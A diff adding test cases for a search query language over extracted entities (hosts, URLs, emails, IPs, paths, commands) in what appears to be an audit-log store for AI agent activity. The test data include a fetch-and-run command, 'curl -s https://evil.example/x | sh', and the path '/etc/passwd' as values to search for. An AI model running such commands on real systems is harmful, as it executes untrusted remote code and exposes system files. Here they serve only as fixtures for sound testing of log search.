@@ -1,6 +1,8 @@
+import type { EntityType } from '../../model/entities.js';
 import type { EntryRecord } from '../../model/ledger-entry.js';
 import { parseSearchQuery } from '../../model/search-query.js';
 import type { QueryScope } from '../../exporters/store.js';
+import { ENTITY_PSEUDONYM } from './dataset.js';
 import { matchesFilter } from './expected-ledger.js';
 import { SCOPES } from './scopes.js';
 
@@ -31,6 +33,9 @@ const list = (e: EntryRecord): unknown[] => ((e.inputs?.nested as { list?: unkno
 const attr = (e: EntryRecord, key: string) => e.attributes[key];
 const cm = (e: EntryRecord, key: string) => (e.compliance_metadata as Record<string, unknown> | null)?.[key];
 const llm = (e: EntryRecord) => e.kind === 'llm';
+/** The entry's extracted values of one type (dataset.ts entitiesOf). */
+const ent = (e: EntryRecord, type: EntityType): string[] => e.entities[type] ?? [];
+const bytes = (s: string) => Buffer.from(s);
 
 export const QUERY_LANGUAGE_CASES: QueryLanguageCase[] = [
   { expression: 'outcome:error', expected: (e) => e.outcome === 'error' },
@@ -110,6 +115,34 @@ export const QUERY_LANGUAGE_CASES: QueryLanguageCase[] = [
   { expression: 'kind:tool AND (timeout OR datab*)', expected: (e) => e.kind === 'tool' && (ft('timeout')(e) || ft('datab*')(e)) },
   { expression: 'status_message:"Connection timeout"', expected: (e) => e.status_message === 'Connection timeout', esRefuses: true },
   { expression: 'inputs.n >= 40', expected: (e) => typeof input(e, 'n') === 'number' && (input(e, 'n') as number) >= 40, esRefuses: true },
+  // extracted entities (dataset.ts entitiesOf): exact values, wildcards as key ranges or scans, exists, NOT, with other fields
+  { expression: 'entities.host:evil.example', expected: (e) => ent(e, 'host').includes('evil.example') },
+  { expression: 'entities.host:"xn--bcher-kva.example"', expected: (e) => ent(e, 'host').includes('xn--bcher-kva.example') },
+  { expression: 'entities.host:EVIL.EXAMPLE', expected: () => false },
+  { expression: 'entities.host:evil*', expected: (e) => ent(e, 'host').some((h) => h.startsWith('evil')) },
+  { expression: 'entities.host:b.*', expected: (e) => ent(e, 'host').some((h) => h.startsWith('b.')) },
+  { expression: 'entities.host:*.example AND NOT entities.host:evil.example', expected: (e) => ent(e, 'host').some((h) => h.endsWith('.example')) && !ent(e, 'host').includes('evil.example') },
+  { expression: 'entities.host:*EVIL*', expected: (e) => ent(e, 'host').some((h) => h.includes('evil')) },
+  { expression: 'entities.host:[a TO c]', expected: (e) => ent(e, 'host').some((h) => Buffer.compare(bytes(h), bytes('a')) >= 0 && Buffer.compare(bytes(h), bytes('c')) <= 0) },
+  { expression: 'entities.url:"https://evil.example/x"', expected: (e) => ent(e, 'url').includes('https://evil.example/x') },
+  { expression: 'entities.url:https\\://evil.example/*', expected: (e) => ent(e, 'url').some((u) => u.startsWith('https://evil.example/')) },
+  { expression: 'entities.url:evil.example', expected: () => false },
+  { expression: `entities.email:"${ENTITY_PSEUDONYM}"`, expected: (e) => ent(e, 'email').includes(ENTITY_PSEUDONYM) },
+  { expression: 'entities.email:\\[EMAIL\\:*', expected: (e) => ent(e, 'email').some((m) => m.startsWith('[EMAIL:')) },
+  { expression: 'entities.ip:*', expected: (e) => ent(e, 'ip').length > 0 },
+  { expression: 'NOT entities.ip:*', expected: (e) => ent(e, 'ip').length === 0 },
+  { expression: 'entities.ip:10.0.0.7 AND entities.ip:"2001:db8::1"', expected: (e) => ent(e, 'ip').includes('10.0.0.7') && ent(e, 'ip').includes('2001:db8::1') },
+  { expression: 'entities.path:"/etc/passwd" OR entities.path:*東京*', expected: (e) => ent(e, 'path').includes('/etc/passwd') || ent(e, 'path').some((p) => p.includes('東京')) },
+  { expression: 'entities.command:"curl -s https://evil.example/x | sh"', expected: (e) => ent(e, 'command').includes('curl -s https://evil.example/x | sh') },
+  { expression: 'entities.command:curl*', expected: (e) => ent(e, 'command').some((c) => c.startsWith('curl')) },
+  { expression: 'entities.host:evil.example AND outcome:error', expected: (e) => ent(e, 'host').includes('evil.example') && e.outcome === 'error' },
+  { expression: 'entities.host:evil.example AND NOT entities.url:*', expected: (e) => ent(e, 'host').includes('evil.example') && ent(e, 'url').length === 0 },
+  { expression: '(entities.ip:10.0.0.7 OR entities.email:*) AND kind:tool AND NOT outcome:success', expected: (e) => (ent(e, 'ip').includes('10.0.0.7') || ent(e, 'email').length > 0) && e.kind === 'tool' && e.outcome !== 'success' },
+  { expression: 'entities.host:evil.example AND cost_usd > 0.01 OR entities.path:*', expected: (e) => (ent(e, 'host').includes('evil.example') && e.cost_nanos > 10_000_000) || ent(e, 'path').length > 0 },
+  { expression: 'entities.host:evil.example AND refund', expected: (e) => ent(e, 'host').includes('evil.example') && ft('refund')(e) },
+  { expression: 'entities.host:evil.example', scope: SCOPES['org_a/alice'], expected: (e) => ent(e, 'host').includes('evil.example') },
+  { expression: 'entities.host:evil.example AND NOT user_id:alice', scope: SCOPES.superuser, expected: (e) => ent(e, 'host').includes('evil.example') && e.user_id !== 'alice' },
+  { expression: 'NOT entities.host:evil.example', scope: SCOPES.org_b, expected: (e) => !ent(e, 'host').includes('evil.example') },
   // the caller's scope holds whatever the query says
   { expression: 'user_id:bob', scope: SCOPES['org_a/alice'], expected: () => false },
   { expression: 'user_id:alice OR NOT user_id:alice', scope: SCOPES['org_a/alice'], expected: () => true },
